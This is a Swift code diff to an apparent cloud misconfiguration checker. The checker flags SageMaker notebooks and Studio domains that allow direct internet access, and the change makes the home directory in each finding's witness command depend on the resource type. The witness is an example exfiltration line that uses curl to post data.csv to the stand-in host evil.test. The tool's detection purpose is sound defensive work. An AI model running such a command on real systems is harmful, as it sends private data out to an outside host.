@@ -27,6 +27,7 @@ struct DirectInternetRoute: Route {
       judgement.add(
         door(
           notebook, "DirectInternetAccess", closed: "Disabled", otherwise: "Enabled",
+          home: "/home/ec2-user/SageMaker",
           story:
             "Anyone in a terminal of notebook instance \(notebook.id) sends a file to a host of the internet.",
           estate))
@@ -38,6 +39,7 @@ struct DirectInternetRoute: Route {
       judgement.add(
         door(
           domain, "AppNetworkAccessType", closed: "VpcOnly", otherwise: "PublicInternetOnly",
+          home: "/home/sagemaker-user",
           story: "Anyone in a Studio terminal of domain \(domain.id) sends a file to a host of the internet.",
           estate))
     }
@@ -48,8 +50,8 @@ struct DirectInternetRoute: Route {
   }
 
   private func door(
-    _ resource: CloudResource, _ property: String, closed: String, otherwise: String, story: String,
-    _ estate: CloudEstate
+    _ resource: CloudResource, _ property: String, closed: String, otherwise: String, home: String,
+    story: String, _ estate: CloudEstate
   ) -> Door {
     let name = "\(resource.id)"
     switch estate.text(resource, property).or(otherwise) {
@@ -60,7 +62,7 @@ struct DirectInternetRoute: Route {
       return .open(
         name,
         RouteWitness(
-          "curl --data-binary @/home/ec2-user/SageMaker/data.csv https://evil.test/",
+          "curl --data-binary @\(home)/data.csv https://evil.test/",
           by: .insider("the network interface that SageMaker adds, \(property) \(otherwise)"), story: story,
           fix: "set \(property) to \(closed)", at: resource, property))
     }
